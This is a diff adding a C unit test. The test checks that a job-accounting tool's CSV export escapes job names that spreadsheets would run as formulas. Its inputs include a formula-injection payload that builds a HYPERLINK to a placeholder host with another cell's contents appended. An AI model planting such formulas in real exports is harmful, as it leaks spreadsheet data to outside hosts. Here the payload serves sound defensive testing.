@@ -123,6 +123,32 @@ static void test_csv_quoting(void **state) {
     json_decref(o);
 }
 
+/* A name a spreadsheet would run as a formula (any user names a job)
+ * is written as text: a quote mark first, inside the CSV's quotes where
+ * it has them. */
+static void test_csv_formula_is_text(void **state) {
+    (void)state;
+    acct_params p;
+    acct_params_default(&p);
+    const char *names[] = {"=HYPERLINK(\"http://x/\"&A2)", "-2+3", "@SUM(A1)"};
+    const char *want[] = {",\"'=HYPERLINK(\"\"http://x/\"\"&A2)\",", ",'-2+3,",
+                          ",'@SUM(A1),"};
+    for (int i = 0; i < 3; i++) {
+        acct_row r = {.job_id = 7, .user = "u", .name = names[i],
+                      .state = "queued", .submit_s = 0, .end_s = -1};
+        acct_row_measure(&r, NULL, 0, 10);
+        json_t *o = acct_row_json(&r, &p, 10);
+        char *buf = NULL;
+        size_t len = 0;
+        FILE *f = open_memstream(&buf, &len);
+        acct_csv_row(f, o, NULL);
+        fclose(f);
+        if (!strstr(buf, want[i])) fail_msg("%s lacks %s", buf, want[i]);
+        free(buf);
+        json_decref(o);
+    }
+}
+
 static char *write_config(const char *text) {
     static char path[] = "/tmp/aegis-acct-XXXXXX";
     strcpy(path, "/tmp/aegis-acct-XXXXXX");
@@ -171,6 +197,7 @@ int main(void) {
         cmocka_unit_test(test_wait_with_retries),
         cmocka_unit_test(test_report_totals),
         cmocka_unit_test(test_csv_quoting),
+        cmocka_unit_test(test_csv_formula_is_text),
         cmocka_unit_test(test_config_keys),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
